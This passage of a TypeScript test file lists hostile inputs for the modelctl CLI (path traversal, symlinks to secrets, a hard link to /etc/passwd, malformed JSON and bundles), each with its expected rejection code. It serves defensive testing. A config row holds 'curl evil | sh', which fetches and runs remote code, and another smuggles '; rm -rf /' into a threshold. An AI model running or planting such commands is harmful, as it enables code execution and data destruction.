/**
 * The hostile-input corpus: one row per attack, kept as data. Each row says what it attacks,
 * how the input is crafted in a fresh sandbox (see sandbox.ts), which command meets it, and
 * the documented outcome: exit 2 (usage), 3 (not found), 4 (conflict), 6 (integrity) with
 * its error code, or 0 for junk that must be ignored. The runner (corpus.full.test.ts) also
 * asserts, for every row, that nothing changed outside modelctl's own folders except the
 * row's `allowed` paths, and that every repository in the sandbox still verifies.
 */
import { execFileSync } from 'node:child_process';
import { linkSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { canonicalJsonBytes } from '../../src/core/canonical-json.js';
import { type ManifestJson, Sandbox, sha256, type TarEntry } from './sandbox.js';

export type Surface = 'manifest' | 'file-list' | 'remote-doc' | 'remote-junk' | 'bundle' | 'config' | 'name' | 'checkout-path' | 'workspace';

export interface Command {
  cwd: string;
  args: string[];
  /** Run through bash (for arguments that are not valid UTF-8, written as $'\xff'). */
  bash?: boolean;
}

export interface HostileCase {
  id: string;
  surface: Surface;
  attack: string;
  expect: { exit: 0 | 2 | 3 | 4 | 6; code?: string };
  /** Sandbox-relative paths this command may change (its target); nothing else may. */
  allowed?: string[];
  arrange(s: Sandbox): Command;
}

const pullV1 = (s: Sandbox): Command => ({ cwd: s.repo, args: ['pull', 'm@v1', '--out', 'out'] });
const fetchAll = (s: Sandbox): Command => ({ cwd: s.repo, args: ['fetch'] });
const deep = (n: number, open = '[', close = ']') => `${open.repeat(n)}${close.repeat(n)}`;

// ------------------------------------------------------------------ manifests (via a remote)

function manifestCase(id: string, attack: string, mutate: (m: ManifestJson, s: Sandbox) => void, opts: { sort?: boolean; code?: string } = {}): HostileCase {
  return {
    id: `manifest/${id}`,
    surface: 'manifest',
    attack,
    expect: { exit: 6, code: opts.code },
    arrange(s) {
      const m = s.manifest();
      mutate(m, s);
      s.publishManifest(m, { sort: opts.sort });
      return pullV1(s);
    },
  };
}

const small = (m: ManifestJson) => m.files.find((f) => f.path === 'model/small.txt')!;
const big = (m: ManifestJson) => m.files.find((f) => f.path === 'model/big.bin')!;

const manifests: HostileCase[] = [
  manifestCase('dotdot', "path '../escape.txt' (one level up from --out)", (m) => void (small(m).path = '../escape.txt'), { code: 'INVALID_MANIFEST' }),
  manifestCase('dotdot-deep', "path '../../../escape.txt'", (m) => void (small(m).path = '../../../escape.txt'), { code: 'INVALID_MANIFEST' }),
  manifestCase('dotdot-middle', "path 'model/../../escape.txt'", (m) => void (small(m).path = 'model/../../escape.txt'), { code: 'INVALID_MANIFEST' }),
  manifestCase('absolute', 'absolute path into the sandbox', (m, s) => void (small(m).path = join(s.root, 'abs-escape.txt')), { code: 'INVALID_MANIFEST' }),
  manifestCase('drive-letter', "drive letter 'C:/escape.txt'", (m) => void (small(m).path = 'C:/escape.txt'), { code: 'INVALID_MANIFEST' }),
  manifestCase('drive-relative', "drive-relative 'C:escape.txt'", (m) => void (small(m).path = 'C:escape.txt'), { code: 'INVALID_MANIFEST' }),
  manifestCase('backslash-dotdot', "backslash traversal '..\\\\escape.txt'", (m) => void (small(m).path = '..\\escape.txt'), { code: 'INVALID_MANIFEST' }),
  manifestCase('unc', "UNC path '\\\\\\\\server\\\\share\\\\x'", (m) => void (small(m).path = '\\\\server\\share\\x'), { code: 'INVALID_MANIFEST' }),
  manifestCase('nul', 'NUL byte in a path', (m) => void (small(m).path = 'model/small\u0000.txt'), { code: 'INVALID_MANIFEST' }),
  manifestCase('newline', 'newline in a path', (m) => void (small(m).path = 'model/sm\nall.txt'), { code: 'INVALID_MANIFEST' }),
  manifestCase('empty-segment', "empty segment 'model//small.txt'", (m) => void (small(m).path = 'model//small.txt'), { code: 'INVALID_MANIFEST' }),
  manifestCase('dot-segment', "'./model/small.txt'", (m) => void (small(m).path = './model/small.txt'), { code: 'INVALID_MANIFEST' }),
  manifestCase('empty-path', 'empty path', (m) => void (small(m).path = ''), { code: 'INVALID_MANIFEST' }),
  manifestCase('git-hook', "'.git/hooks/post-checkout' (mode 755): code run by git later", (m) => {
    const f = small(m);
    f.path = '.git/hooks/post-checkout';
    f.mode = 0o755;
  }, { code: 'INVALID_MANIFEST' }),
  manifestCase('git-hook-upper', "'.GIT/hooks/pre-commit' (case-insensitive file systems)", (m) => void (small(m).path = '.GIT/hooks/pre-commit'), { code: 'INVALID_MANIFEST' }),
  manifestCase('modelctl-hook', "'.modelctl/hooks/pre-promote': a hook modelctl would run", (m) => void (small(m).path = '.modelctl/hooks/pre-promote'), { code: 'INVALID_MANIFEST' }),
  manifestCase('nested-modelctl', "'sub/.modelctl/hooks/pre-commit': a repository inside the checkout", (m) => void (small(m).path = 'sub/.modelctl/hooks/pre-commit'), { code: 'INVALID_MANIFEST' }),
  manifestCase('long-path', 'a 5000-character path', (m) => void (small(m).path = `model/${'a'.repeat(5000)}`), { code: 'INVALID_MANIFEST' }),
  manifestCase('duplicate-path', 'the same path twice', (m) => void m.files.push({ ...small(m) }), { code: 'INVALID_MANIFEST' }),
  manifestCase('unsorted', 'files out of order', (m) => void m.files.reverse(), { sort: false, code: 'INVALID_MANIFEST' }),
  manifestCase('file-in-file', "'model/small.txt' and 'model/small.txt/x' (a file used as a folder)", (m) => void m.files.push({ ...small(m), path: 'model/small.txt/x' }), { code: 'INVALID_MANIFEST' }),
  manifestCase('setuid-mode', 'mode 04755 (setuid)', (m) => void (small(m).mode = 0o4755), { code: 'INVALID_MANIFEST' }),
  manifestCase('negative-size', 'size -1', (m) => void (small(m).size = -1), { code: 'INVALID_MANIFEST' }),
  manifestCase('fractional-size', 'size 1.5', (m) => void (small(m).size = 1.5), { code: 'INVALID_MANIFEST' }),
  manifestCase('size-as-string', "size '6' (wrong type)", (m) => void ((small(m) as unknown as { size: string }).size = '6'), { code: 'INVALID_MANIFEST' }),
  manifestCase('files-not-array', 'files is an object', (m) => void ((m as unknown as { files: unknown }).files = { a: 1 }), { sort: false, code: 'INVALID_MANIFEST' }),
  manifestCase('unknown-field', 'an extra top-level field', (m) => void ((m as unknown as Record<string, unknown>).evil = true), { code: 'INVALID_MANIFEST' }),
  manifestCase('digest-not-hex', 'a digest with upper-case and non-hex characters', (m) => void (small(m).digest = 'Z'.repeat(64)), { code: 'INVALID_MANIFEST' }),
  manifestCase('size-smaller', 'size smaller than the chunk (6 → 3)', (m) => void (small(m).size = 3), { code: 'CORRUPT_CHUNK' }),
  manifestCase('size-huge', 'size 2^50 for a 6-byte file', (m) => void (small(m).size = 2 ** 50), { code: 'CORRUPT_CHUNK' }),
  manifestCase('size-multi-lie', 'multi-chunk file one byte longer than its chunks', (m) => void (big(m).size += 1), { code: 'INVALID_CHUNK_LIST' }),
  manifestCase('digest-lie', 'a file digest its chunk does not produce', (m) => void (small(m).digest = sha256('something else')), { code: 'INVALID_CHUNK_LIST' }),
  manifestCase('chunk-lie', "a single chunk that is not the file's", (m) => void (small(m).chunk = sha256('x')), { code: 'INVALID_CHUNK_LIST' }),
  manifestCase('argv-count', '10,001 argv entries (over the bound)', (m) => void (m.lineage.argv = Array.from({ length: 10_001 }, () => 'x')), { code: 'INVALID_MANIFEST' }),
  manifestCase('wrong-model', "a manifest of model 'other' under m's number", (m) => void (m.model = 'other'), { code: 'REMOTE_MODEL_MISMATCH' }),
  manifestCase('bad-model-name', "model '../x' in the manifest", (m) => void (m.model = '../x'), { code: 'INVALID_MANIFEST' }),
  manifestCase('bad-time', "created 'yesterday'", (m) => void (m.created = 'yesterday'), { code: 'INVALID_MANIFEST' }),
  {
    id: 'manifest/deep-nesting',
    surface: 'manifest',
    attack: 'params nested 100,000 deep (stack exhaustion)',
    expect: { exit: 6, code: 'INVALID_JSON' },
    arrange(s) {
      const text = canonicalJsonBytes(s.manifest()).toString('utf8').replace('"params":{"lr":0.1}', `"params":{"lr":${deep(100_000)}}`);
      s.publishManifestBytes(Buffer.from(text));
      return pullV1(s);
    },
  },
  {
    id: 'manifest/non-utf8',
    surface: 'manifest',
    attack: 'a path with bytes that are not UTF-8',
    expect: { exit: 6, code: 'INVALID_JSON' },
    arrange(s) {
      const bytes = canonicalJsonBytes(s.manifest());
      const at = bytes.indexOf('small.txt');
      bytes[at] = 0xff;
      s.publishManifestBytes(bytes);
      return pullV1(s);
    },
  },
  {
    id: 'manifest/non-canonical',
    surface: 'manifest',
    attack: 'the right content, not in canonical form (a second id for one version)',
    expect: { exit: 6, code: 'NON_CANONICAL_MANIFEST' },
    arrange(s) {
      s.publishManifestBytes(Buffer.from(JSON.stringify(s.manifest(), null, 2)));
      return pullV1(s);
    },
  },
  {
    id: 'manifest/id-lie',
    surface: 'manifest',
    attack: "versions/<id>.json holding bytes that do not hash to <id>",
    expect: { exit: 6, code: 'MANIFEST_ID_MISMATCH' },
    arrange(s) {
      const m = s.manifest();
      m.message = 'tampered';
      s.publishManifestBytes(canonicalJsonBytes(m), s.template.manifestId);
      return pullV1(s);
    },
  },
  {
    id: 'manifest/not-json',
    surface: 'manifest',
    attack: 'versions/<id>.json is not JSON',
    expect: { exit: 6, code: 'INVALID_JSON' },
    arrange(s) {
      s.publishManifestBytes(Buffer.from('\u0000\u0001 not json'));
      return pullV1(s);
    },
  },
  {
    id: 'manifest/repository-less-dotdot',
    surface: 'manifest',
    attack: "'../escape.txt' through a pull with no repository (CI mode)",
    expect: { exit: 6, code: 'INVALID_MANIFEST' },
    // The --out folder it was told to create may stay (empty); its throwaway store is removed.
    allowed: ['ci/out'],
    arrange(s) {
      const m = s.manifest();
      small(m).path = '../escape.txt';
      s.publishManifest(m);
      mkdirSync(join(s.root, 'ci'));
      return { cwd: join(s.root, 'ci'), args: ['pull', 'm@v1', '--remote', `file://${s.remote}`, '--out', 'out'] };
    },
  },
];

// ------------------------------------------------------------------ chunk lists (files/<digest>.json)

function fileListCase(id: string, attack: string, mutate: (doc: { format: number; digest: string; size: number; chunks: [string, number][] }, s: Sandbox) => unknown, code = 'INVALID_REMOTE_DOCUMENT'): HostileCase {
  return {
    id: `file-list/${id}`,
    surface: 'file-list',
    attack,
    expect: { exit: 6, code },
    arrange(s) {
      const key = `files/${s.template.bigDigest}.json`;
      const doc = s.remoteJson<{ format: number; digest: string; size: number; chunks: [string, number][] }>(key);
      const replaced = mutate(doc, s);
      s.putRemote(key, typeof replaced === 'string' || Buffer.isBuffer(replaced) ? replaced : JSON.stringify(doc));
      return pullV1(s);
    },
  };
}

const fileLists: HostileCase[] = [
  fileListCase('other-digest', 'names another file', (d) => void (d.digest = sha256('other')), 'INVALID_CHUNK_LIST'),
  fileListCase('size-lie', 'size one byte larger than its chunks', (d) => void (d.size += 1), 'INVALID_CHUNK_LIST'),
  fileListCase('lengths-lie', 'chunk lengths shifted by one (same total, same digest list)', (d) => {
    d.chunks[0][1] += 1;
    d.chunks[1][1] -= 1;
  }, 'CORRUPT_CHUNK'),
  fileListCase('chunk-swap', 'chunks in another order (the file digest no longer follows)', (d) => void d.chunks.reverse(), 'INVALID_CHUNK_LIST'),
  fileListCase('zero-length', 'a chunk of length 0', (d) => void (d.chunks[0][1] = 0)),
  fileListCase('huge-length', 'a chunk of 2^40 bytes', (d) => void (d.chunks[0][1] = 2 ** 40)),
  fileListCase('one-chunk', 'a single-chunk list (the format stores those in the manifest)', (d) => void (d.chunks = d.chunks.slice(0, 1))),
  fileListCase('unknown-field', 'an extra field', (d) => void ((d as unknown as Record<string, unknown>).evil = 1)),
  fileListCase('wrong-type', 'chunks as a string', (d) => void ((d as unknown as Record<string, unknown>).chunks = 'abc')),
  fileListCase('deep', 'nested 100,000 deep', () => deep(100_000), 'INVALID_JSON'),
  fileListCase('non-utf8', 'bytes that are not UTF-8', () => Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), 'INVALID_JSON'),
  fileListCase('not-json', 'not JSON', () => 'garbage', 'INVALID_JSON'),
  {
    id: 'file-list/missing',
    surface: 'file-list',
    attack: 'the chunk list is absent (a reference to something absent)',
    expect: { exit: 6, code: 'FILE_LIST_MISSING' },
    arrange(s) {
      rmSync(join(s.remote, 'files', `${s.template.bigDigest}.json`));
      return pullV1(s);
    },
  },
  {
    id: 'file-list/chunk-missing',
    surface: 'file-list',
    attack: 'a chunk named by the list is absent',
    expect: { exit: 6, code: 'CHUNK_MISSING' },
    arrange(s) {
      const d = s.remoteJson<{ chunks: [string, number][] }>(`files/${s.template.bigDigest}.json`);
      rmSync(join(s.remote, 'chunks', d.chunks[1][0]));
      return pullV1(s);
    },
  },
  {
    id: 'file-list/chunk-bytes-lie',
    surface: 'file-list',
    attack: 'a chunk whose bytes do not hash to its name',
    expect: { exit: 6, code: 'CORRUPT_CHUNK' },
    arrange(s) {
      const d = s.remoteJson<{ chunks: [string, number][] }>(`files/${s.template.bigDigest}.json`);
      s.putRemote(`chunks/${d.chunks[0][0]}`, Buffer.alloc(d.chunks[0][1], 1));
      return pullV1(s);
    },
  },
  {
    id: 'file-list/chunk-symlink',
    surface: 'file-list',
    attack: "a chunk that is a symlink to a file outside the remote",
    // Refused as a link before it is opened: the file outside is never read.
    expect: { exit: 6, code: 'REMOTE_NOT_A_FILE' },
    arrange(s) {
      const chunk = s.manifest().files.find((f) => f.path === 'model/small.txt')!.chunk!;
      rmSync(join(s.remote, 'chunks', chunk));
      symlinkSync(join(s.outside, 'secret.txt'), join(s.remote, 'chunks', chunk));
      return pullV1(s);
    },
  },
];

// ------------------------------------------------------------------ remote documents

function docCase(id: string, attack: string, key: (s: Sandbox) => string, body: (s: Sandbox) => Buffer | string, code = 'INVALID_REMOTE_DOCUMENT'): HostileCase {
  return {
    id: `remote-doc/${id}`,
    surface: 'remote-doc',
    attack,
    expect: { exit: 6, code },
    arrange(s) {
      s.putRemote(key(s), body(s));
      return fetchAll(s);
    },
  };
}

const firstEvent = (s: Sandbox) => {
  const names = readdirSync(join(s.remote, 'models', 'm', 'events')).filter((n) => !n.startsWith('.'));
  return `models/m/events/${names.sort()[0]}`;
};

const remoteDocs: HostileCase[] = [
  docCase('number-not-hex', "numbers/1.json names '../../x'", () => 'models/m/numbers/1.json', () => '{"version":"../../x"}'),
  docCase('number-not-json', 'numbers/1.json is not JSON', () => 'models/m/numbers/1.json', () => 'nope', 'INVALID_JSON'),
  docCase('number-deep', 'numbers/1.json nested 100,000 deep', () => 'models/m/numbers/1.json', () => deep(100_000, '{"a":', '}'), 'INVALID_JSON'),
  docCase('number-extra', 'numbers/1.json with an extra field', () => 'models/m/numbers/1.json', (s) => JSON.stringify({ version: s.template.manifestId, evil: 1 })),
  docCase('number-absent-version', 'numbers/1.json names a manifest that is absent', () => 'models/m/numbers/1.json', () => JSON.stringify({ version: sha256('absent') }), 'REMOTE_MANIFEST_MISSING'),
  docCase('tag-wrong-type', 'a tag whose version is a number', () => 'models/m/tags/good.json', () => '{"version":1,"message":null,"actor":"x","at":"x","event":null}'),
  docCase('tag-deep', 'a tag nested 100,000 deep', () => 'models/m/tags/good.json', () => deep(100_000), 'INVALID_JSON'),
  docCase('stage-extra', 'a stage with an extra field', () => 'models/m/stages/staging.json', (s) => {
    const d = s.remoteJson('models/m/stages/staging.json');
    return JSON.stringify({ ...d, evil: true });
  }),
  docCase('stage-non-utf8', 'a stage with bytes that are not UTF-8', () => 'models/m/stages/staging.json', () => Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x7d]), 'INVALID_JSON'),
  docCase('event-id-lie', 'an event whose content does not hash to its id', firstEvent, (s) => {
    const e = s.remoteJson(firstEvent(s));
    return JSON.stringify({ ...e, actor: 'mallory' });
  }, 'REMOTE_EVENT_INVALID'),
  docCase('event-wrong-types', 'an event with argv as a number and at as an object', firstEvent, (s) => {
    const e = s.remoteJson(firstEvent(s));
    return JSON.stringify({ ...e, argv: 5, at: { t: 1 } });
  }),
  docCase('event-deep', 'an event nested 100,000 deep', firstEvent, () => deep(100_000), 'INVALID_JSON'),
  docCase('event-other-model', "an event about model 'other' filed under m", firstEvent, (s) => {
    const e = s.remoteJson<Record<string, unknown>>(firstEvent(s));
    const body: Record<string, unknown> = { ...e, model: 'other' };
    delete body.id;
    const id = sha256(canonicalJsonBytes(body));
    const key = `models/m/events/2099-01-01T00-00-00.000Z-${id}.json`;
    s.putRemote(key, canonicalJsonBytes({ ...body, id }));
    return canonicalJsonBytes(e); // the original stays as it was
  }, 'REMOTE_EVENT_INVALID'),
];

// ------------------------------------------------------------------ junk on the remote: ignored, exit 0

function junkCase(id: string, attack: string, put: (s: Sandbox) => void): HostileCase {
  return {
    id: `remote-junk/${id}`,
    surface: 'remote-junk',
    attack,
    expect: { exit: 0 },
    allowed: ['repo/out'],
    arrange(s) {
      put(s);
      return pullV1(s);
    },
  };
}

const remoteJunk: HostileCase[] = [
  junkCase('huge-number', 'numbers/99999999999999999999.json (past the safe integers)', (s) => s.putRemote('models/m/numbers/99999999999999999999.json', JSON.stringify({ version: s.template.manifestId }))),
  junkCase('non-utf8-key', 'a tag file whose name is not valid UTF-8', (s) => {
    writeFileSync(Buffer.from(`${join(s.remote, 'models', 'm', 'tags')}/\xff\xfe.json`, 'latin1'), '{}');
  }),
  junkCase('upper-case-model', "a folder models/EVIL/ (not a model name)", (s) => s.putRemote('models/EVIL/numbers/1.json', JSON.stringify({ version: s.template.manifestId }))),
  junkCase('stray-files', 'files the layout does not have (versions/x.json, chunks/readme)', (s) => {
    s.putRemote('versions/x.json', 'junk');
    s.putRemote('chunks/readme', 'junk');
  }),
];

// ------------------------------------------------------------------ bundles (export/import)

type Mutator = (entries: TarEntry[], s: Sandbox) => TarEntry[];

function bundleCase(id: string, attack: string, exit: 2 | 6, mutate: Mutator, code?: string): HostileCase {
  return {
    id: `bundle/${id}`,
    surface: 'bundle',
    attack,
    expect: { exit, code },
    arrange(s) {
      const path = s.writeBundle('bad.tar', mutate(s.bundleEntries(), s));
      return { cwd: s.repo, args: ['import', path] };
    },
  };
}

const isObject = (e: TarEntry) => e.name.startsWith('objects/');
const withMarker = (entries: TarEntry[], edit: (m: Record<string, any>) => unknown): TarEntry[] => {
  const m = JSON.parse(entries[0].body!.toString('utf8'));
  const replaced = edit(m);
  return [{ name: entries[0].name, body: Buffer.isBuffer(replaced) ? replaced : Buffer.from(typeof replaced === 'string' ? replaced : JSON.stringify(m)) }, ...entries.slice(1)];
};
const afterMarker = (entries: TarEntry[], extra: TarEntry) => [entries[0], extra, ...entries.slice(1)];

const bundles: HostileCase[] = [
  bundleCase('dotdot-entry', "an entry '../escape.txt'", 6, (e) => afterMarker(e, { name: '../escape.txt', body: Buffer.from('x') }), 'UNSAFE_BUNDLE_ENTRY'),
  bundleCase('absolute-entry', 'an entry with an absolute name into the sandbox', 6, (e, s) => afterMarker(e, { name: join(s.root, 'abs.txt'), body: Buffer.from('x') }), 'UNSAFE_BUNDLE_ENTRY'),
  bundleCase('backslash-entry', "an entry 'objects\\\\..\\\\..\\\\x'", 6, (e) => afterMarker(e, { name: 'objects\\..\\..\\x', body: Buffer.from('x') }), 'UNSAFE_BUNDLE_ENTRY'),
  bundleCase('drive-entry', "an entry 'C:/x'", 6, (e) => afterMarker(e, { name: 'C:/x', body: Buffer.from('x') }), 'UNSAFE_BUNDLE_ENTRY'),
  bundleCase('symlink-object', 'an object entry that is a symlink to a file outside', 6, (e, s) => e.map((x) => (isObject(x) ? { name: x.name, type: 'SymbolicLink', linkpath: join(s.outside, 'secret.txt') } : x)), 'UNSAFE_BUNDLE_ENTRY'),
  bundleCase('hardlink-object', 'an object entry that is a hard link to /etc/passwd', 6, (e) => e.map((x) => (isObject(x) ? { name: x.name, type: 'Link', linkpath: '/etc/passwd' } : x)), 'UNSAFE_BUNDLE_ENTRY'),
  bundleCase('directory-entry', "a folder entry 'objects/'", 6, (e) => afterMarker(e, { name: 'objects/', type: 'Directory' }), 'UNSAFE_BUNDLE_ENTRY'),
  bundleCase('char-device', 'a character device entry', 6, (e) => afterMarker(e, { name: 'objects/dev', type: 'CharacterDevice' }), 'UNSAFE_BUNDLE_ENTRY'),
  bundleCase('fifo', 'a FIFO entry', 6, (e) => afterMarker(e, { name: 'objects/fifo', type: 'FIFO' }), 'UNSAFE_BUNDLE_ENTRY'),
  bundleCase('pax-path-override', "a PAX header renaming an object entry to '../escape.txt'", 6, (e) => e.map((x) => (isObject(x) ? { ...x, pax: { path: '../escape.txt' } } : x)), 'UNSAFE_BUNDLE_ENTRY'),
  bundleCase('non-utf8-name', 'an entry whose name is not valid UTF-8', 6, (e) => afterMarker(e, { name: 'x', rawName: Buffer.from([0x6f, 0x62, 0xff, 0xfe]), body: Buffer.from('x') }), 'UNSAFE_BUNDLE_ENTRY'),
  bundleCase('unknown-entry', "an entry 'run.sh' the format does not have", 6, (e) => afterMarker(e, { name: 'run.sh', body: Buffer.from('#!/bin/sh\n') }), 'UNSAFE_BUNDLE_ENTRY'),
  bundleCase('size-lie', 'an object one byte longer than the manifest says', 6, (e) => e.map((x) => (isObject(x) && x.body!.length > 0 ? { ...x, body: Buffer.concat([x.body!, Buffer.from('!')]) } : x))),
  bundleCase('digest-lie', 'an object whose bytes do not hash to its name', 6, (e) => e.map((x) => (isObject(x) && x.body!.length > 0 ? { ...x, body: Buffer.alloc(x.body!.length, 7) } : x)), 'OBJECT_DIGEST_MISMATCH'),
  bundleCase('duplicate-object', 'the same object entry twice', 6, (e) => {
    const o = e.find((x) => isObject(x) && x.body!.length > 0)!;
    return [...e, o];
  }),
  bundleCase('missing-object', 'an object the manifest needs is left out', 6, (e) => e.filter((x, i) => !(isObject(x) && i === e.findIndex(isObject))), 'BUNDLE_INCOMPLETE'),
  bundleCase('event-lie', 'an event whose content does not hash to its id', 6, (e) =>
    e.map((x) => (x.name.startsWith('events/') ? { ...x, body: Buffer.from(x.body!.toString('utf8').replace(/"actor":"[^"]*"/, '"actor":"mallory"')) } : x)),
  ),
  bundleCase('manifest-dotdot', "a manifest (with its own id) naming '../escape.txt'", 6, (e) => {
    const v = e.find((x) => x.name.startsWith('versions/'))!;
    const m = JSON.parse(v.body!.toString('utf8')) as ManifestJson;
    small(m).path = '../escape.txt';
    m.files.sort((a, b) => (a.path < b.path ? -1 : 1));
    const bytes = canonicalJsonBytes(m);
    const id = sha256(bytes);
    const out = withMarker(e, (mk) => void (mk.version.id = id));
    return out.map((x) => (x.name.startsWith('versions/') ? { name: `versions/${id}.json`, body: bytes } : x)).filter((x) => !x.name.startsWith('events/'));
  }),
  bundleCase('truncated', 'cut off in the middle of an object', 6, (e, s) => {
    const full = readFileSync(join(s.root, 'good.tar'));
    const cut = full.subarray(0, full.length - 700_000);
    // writeTar cannot express this: a lone '\0raw' entry is written as its bytes alone.
    return [{ name: '\u0000raw', body: cut }];
  }, 'BUNDLE_DAMAGED'),
  bundleCase('marker-not-first', 'the marker is not the first entry', 2, (e) => [...e.slice(1, 2), e[0], ...e.slice(2)], 'NOT_A_BUNDLE'),
  bundleCase('marker-deep', 'a marker nested 100,000 deep', 2, (e) => withMarker(e, () => deep(100_000)), 'NOT_A_BUNDLE'),
  bundleCase('marker-non-utf8', 'a marker with bytes that are not UTF-8', 2, (e) => withMarker(e, () => Buffer.from([0x7b, 0xff, 0x7d])), 'NOT_A_BUNDLE'),
  bundleCase('marker-huge-count', 'a marker announcing 100,001 events (over the bound)', 2, (e) => withMarker(e, (m) => void (m.events = 100_001)), 'NOT_A_BUNDLE'),
  bundleCase('marker-wrong-type', "a marker whose version number is '1'", 2, (e) => withMarker(e, (m) => void (m.version.number = '1')), 'NOT_A_BUNDLE'),
  bundleCase('marker-bad-model', "a marker naming model '../x'", 2, (e) => withMarker(e, (m) => void (m.version.model = '../x')), 'NOT_A_BUNDLE'),
  bundleCase('marker-objects-lie', 'a marker whose object sizes disagree with the manifest', 6, (e) => withMarker(e, (m) => void (m.objects[0].size += 1)), 'BUNDLE_MALFORMED'),
  bundleCase('garbage', 'random bytes', 2, () => [{ name: '\u0000raw', body: Buffer.from('this is not a tar file at all, just text'.repeat(40)) }], 'NOT_A_BUNDLE'),
  bundleCase('empty', 'an empty file', 2, () => [{ name: '\u0000raw', body: Buffer.alloc(0) }], 'NOT_A_BUNDLE'),
];

// ------------------------------------------------------------------ settings files

function configCase(id: string, attack: string, json: string | Buffer, opts: { local?: boolean; command?: string[]; code?: string } = {}): HostileCase {
  return {
    id: `config/${id}`,
    surface: 'config',
    attack,
    expect: { exit: 2, code: opts.code ?? 'INVALID_CONFIG' },
    arrange(s) {
      writeFileSync(opts.local ? join(s.repo, '.modelctl', 'config.json') : join(s.repo, 'modelctl.json'), json);
      return { cwd: s.repo, args: opts.command ?? ['ls'] };
    },
  };
}

const configs: HostileCase[] = [
  configCase('stages-string', 'stages: "production" (a string, not a list)', '{"stages":"production"}'),
  configCase('stages-traversal', 'a stage named "../x"', '{"stages":["../x"]}'),
  configCase('stage-nul', 'a stage name with NUL', '{"stages":["a\\u0000b"]}'),
  configCase('paths-string', 'models.m.paths: "model" (not a list)', '{"models":{"m":{"paths":"model"}}}'),
  configCase('model-name', 'a model named "../x"', '{"models":{"../x":{"paths":["model"]}}}'),
  configCase('remote-url-number', 'remotes.o.url: 5', '{"remotes":{"o":{"url":5}}}'),
  configCase('remote-name', 'a remote named "../x"', '{"remotes":{"../x":{"url":"/tmp/x"}}}'),
  configCase('link-mode', 'checkout.link: "symlink" (not a mode)', '{"checkout":{"link":"symlink"}}'),
  configCase('threshold-injection', 'a policy threshold ">= 0.9; rm -rf /"', '{"policies":{"production":{"metrics":{"acc":">= 0.9; rm -rf /"}}}}'),
  configCase('policy-bool-string', 'require_reason: "yes"', '{"policies":{"production":{"require_reason":"yes"}}}'),
  configCase('unknown-key', 'an unknown top-level key', '{"hooks":{"pre-commit":"curl evil | sh"}}'),
  configCase('proto-key', 'a "__proto__" key', '{"__proto__":{"stages":["x"]}}'),
  configCase('top-level-array', 'a list instead of an object', '[1,2,3]'),
  configCase('not-json', 'not JSON', '{stages: [staging]'),
  configCase('deep', 'nested 100,000 deep', deep(100_000, '{"a":', '}')),
  configCase('non-utf8', 'bytes that are not UTF-8', Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d])),
  configCase('local-wrong-type', '.modelctl/config.json with default_remote: 7', '{"default_remote":7}', { local: true }),
  configCase('local-deep', '.modelctl/config.json nested 100,000 deep', deep(100_000), { local: true }),
  {
    id: 'config/paths-outside',
    surface: 'config',
    attack: 'models.m.paths: ["../outside"] (commit reads outside the repository)',
    expect: { exit: 2, code: 'PATH_OUTSIDE_REPOSITORY' },
    arrange(s) {
      writeFileSync(join(s.src, 'modelctl.json'), '{"models":{"m":{"paths":["../outside"]}}}');
      return { cwd: s.src, args: ['commit', 'm'] };
    },
  },
  {
    id: 'config/params-outside',
    surface: 'config',
    attack: 'models.m.params: "../outside/secret.json" (its contents would be published)',
    expect: { exit: 2, code: 'PATH_OUTSIDE_REPOSITORY' },
    arrange(s) {
      writeFileSync(join(s.src, 'modelctl.json'), '{"models":{"m":{"paths":["model"],"params":"../outside/secret.json"}}}');
      writeFileSync(join(s.src, 'model', 'small.txt'), 'changed\n');
      return { cwd: s.src, args: ['commit', 'm'] };
    },
  },
  {
    id: 'config/metrics-symlink-outside',
    surface: 'config',
    attack: 'models.m.metrics: a symlink in the repository pointing at a file outside',
    expect: { exit: 2, code: 'PATH_OUTSIDE_REPOSITORY' },
    arrange(s) {
      symlinkSync(join(s.outside, 'secret.json'), join(s.src, 'metrics.json'));
      writeFileSync(join(s.src, 'modelctl.json'), '{"models":{"m":{"paths":["model"],"metrics":"metrics.json"}}}');
      writeFileSync(join(s.src, 'model', 'small.txt'), 'changed\n');
      return { cwd: s.src, args: ['commit', 'm'] };
    },
  },
];

// ------------------------------------------------------------------ names and references on the command line

function nameCase(id: string, attack: string, args: string[], exit: 2 | 3 = 2, code?: string, bash = false): HostileCase {
  return {
    id: `name/${id}`,
    surface: 'name',
    attack,
    expect: { exit, code },
    arrange: (s) => ({ cwd: s.src, args, bash }),
  };
}

const names: HostileCase[] = [
  nameCase('model-dotdot', "model '../x'", ['commit', '../x', 'model'], 2, 'INVALID_MODEL_NAME'),
  nameCase('model-absolute', "model '/etc/x'", ['commit', '/etc/x', 'model'], 2, 'INVALID_MODEL_NAME'),
  nameCase('model-backslash', "model 'a\\\\b'", ['commit', 'a\\b', 'model'], 2, 'INVALID_MODEL_NAME'),
  nameCase('model-two-namespaces', "model 'a/b/c'", ['commit', 'a/b/c', 'model'], 2, 'INVALID_MODEL_NAME'),
  nameCase('model-upper', "model 'Fraud'", ['commit', 'Fraud', 'model'], 2, 'INVALID_MODEL_NAME'),
  nameCase('model-dot-end', "model 'team/x.'", ['commit', 'team/x.', 'model'], 2, 'INVALID_MODEL_NAME'),
  nameCase('model-long', 'a 300-character model name', ['commit', 'a'.repeat(300), 'model'], 2, 'INVALID_MODEL_NAME'),
  nameCase('model-non-utf8', 'a model name that is not valid UTF-8', ['commit', "$'\\xff\\xfe'", 'model'], 2, 'INVALID_MODEL_NAME', true),
  nameCase('ref-traversal', "reference 'm@../../etc'", ['show', 'm@../../etc'], 2, 'INVALID_REF'),
  nameCase('ref-empty-selector', "reference 'm@'", ['show', 'm@'], 2, 'INVALID_REF'),
  nameCase('ref-v0', "reference 'm@v0'", ['show', 'm@v0'], 2, 'INVALID_REF'),
  nameCase('ref-huge-number', "reference 'm@v99999999999999999999'", ['show', 'm@v99999999999999999999'], 2, 'INVALID_REF'),
  nameCase('ref-non-utf8', 'a reference that is not valid UTF-8', ['show', "m@$'\\xff'"], 2, 'INVALID_REF', true),
  nameCase('ref-unknown', "reference 'm@nope'", ['show', 'm@nope'], 3),
  nameCase('ref-unknown-model', "reference 'ghost@v1'", ['show', 'ghost@v1'], 3),
